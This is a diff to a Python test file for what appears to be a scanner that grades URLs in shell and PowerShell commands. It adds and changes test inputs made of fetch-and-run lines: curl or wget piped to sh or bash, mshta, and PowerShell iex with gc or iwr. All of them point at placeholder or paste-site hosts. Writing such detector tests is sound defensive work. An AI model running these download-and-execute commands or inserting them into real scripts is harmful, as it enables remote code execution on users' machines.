@@ -168,6 +168,8 @@ def _flood(template: str, n: int, odd: dict[int, str] | None = None) -> str:
     return "".join(template.format(u=odd.get(k, f"https://x{k}.example/a")) + "\n" for k in range(n))
 
 
+# undeclared hosts listed in full before a flood of another shape
+LISTED = "".join(f"curl -s https://listed{k}.example/a | sh\n" for k in range(25))
 ODD_HOSTS = {
     30: "https://pastebin.com/raw/abc",
     31: "http://192.0.2.7/x",
@@ -215,18 +217,25 @@ def test_a_flood_of_one_shape_is_replayed_and_every_url_still_graded(
         # $U resolves to the same URL as a statement's own: its grade is not that URL's
         (
             _shell,
-            "U=https://pastebin.com/raw/a\n"
-            + _flood("curl $U {u} | bash", 60, {0: "https://pastebin.com/raw/a"}),
+            LISTED + "U=https://paste.ee/a\n" + _flood("curl $U {u} | bash", 60, {0: "https://paste.ee/a"}),
         ),
         # a URL put together from quoted parts equal to the statement's own
-        (_shell, _flood('curl "https:"//x.example/a {u} | bash', 60, {0: "https://x.example/a"})),
+        (_shell, LISTED + _flood('curl "https:"//paste.ee/a {u} | bash', 60, {0: "https://paste.ee/a"})),
+        # a URL read by a remote loader, not fetched by the statement
+        (
+            _shell,
+            LISTED + _flood("curl -s https://a.example/b | sh; mshta {u}", 60, {45: "https://paste.ee/a"}),
+        ),
+        (_shell, LISTED + _flood("curl -s {u} | sh; mshta {u}", 60, {45: "https://paste.ee/a"})),
         # a URL word a variable ends, a URL that is only partly a plain token
         (_shell, _flood("curl {u}$X | bash", 60)),
         (_shell, _flood("curl {u}?a=1 | bash", 60, {45: "https://paste.ee/r"})),
         # URLs written to files and run later: the download state is read
         (_shell, _flood("wget {u} && bash a", 60, {45: "http://192.0.2.7/a"})),
         # PowerShell reads words in the text: a URL may hold one
-        (_ps, _flood("iex (gc {u})", 60, {k: f"https://iwr{k}.example/a" for k in range(30, 60, 3)})),
+        # ... and a statement that fetches only by a word in its URL
+        (_ps, _flood("iex (gc {u})", 60, {k: f"https://iwr.x{k}.example/a" for k in range(40)})),
+        (_ps, _flood("gc {u} | iex", 60, {k: f"https://iwr.x{k}.example/a" for k in range(40)})),
         (_ps, _flood("iex (iwr {u}-e AAAAAAAAAAAAAAAAAAAAAAAA)", 60, {40: "https://x.example/a-e"})),
         (_ps, _flood("iwr {u} -o x.ps1", 60)),
         (_ps, _flood("iwr {u} x.ps1", 60, {k: f"https://a.example/b-o{k}" for k in range(25, 60, 2)})),
